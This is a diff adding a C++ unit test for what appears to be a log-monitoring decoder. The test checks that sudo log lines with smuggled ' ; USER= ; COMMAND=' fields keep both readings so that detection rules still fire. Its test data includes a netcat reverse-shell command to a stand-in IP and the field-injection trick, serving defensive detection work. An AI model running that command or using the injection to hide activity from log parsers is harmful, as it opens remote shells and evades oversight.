@@ -459,6 +459,28 @@ TEST(Auth, SudoCommandsAndFailures) {
     EXPECT_EQ(f["COMMAND"], "/bin/bash");
 }
 
+// A directory (or a command's arguments) holding " ; USER=... ; COMMAND=..." makes a sudo
+// line read two ways; both are kept, so a rule on the real command or target user still fires.
+TEST(Auth, ASudoLineThatReadsTwoWaysKeepsBothReadings) {
+    using V = std::vector<std::string>;
+    auto d = Decode(
+        "Nov 20 09:30:00 app-01 sudo:    mallory : TTY=pts/1 ; PWD=/tmp/x ; USER=root ; "
+        "COMMAND=/bin/true ; USER=bob ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.9 4444");
+    ASSERT_TRUE(d.status) << Error(d);
+    EXPECT_EQ(d["user"], "mallory");
+    EXPECT_EQ(d.all("COMMAND"),
+              (V{"/bin/true ; USER=bob ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.9 4444",
+                 "/usr/bin/nc -e /bin/sh 203.0.113.9 4444"}));
+    EXPECT_EQ(d.all("USER"), (V{"root", "bob"}));
+    EXPECT_NE(d["vigil.ambiguous"].find("COMMAND= 2 times"), std::string::npos);
+    // One reading only: nothing added.
+    auto one = Decode(
+        "Nov 20 09:30:00 app-01 sudo:    alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; "
+        "COMMAND=/usr/bin/systemctl restart nginx ; echo done");
+    EXPECT_EQ(one.all("COMMAND").size(), 1u);
+    EXPECT_FALSE(one.has("vigil.ambiguous"));
+}
+
 TEST(Auth, PamAuthenticationFailure) {
     auto d = Decode(
         "Nov 20 02:15:00 bank-web-01 sshd[4250]: pam_unix(sshd:auth): authentication "
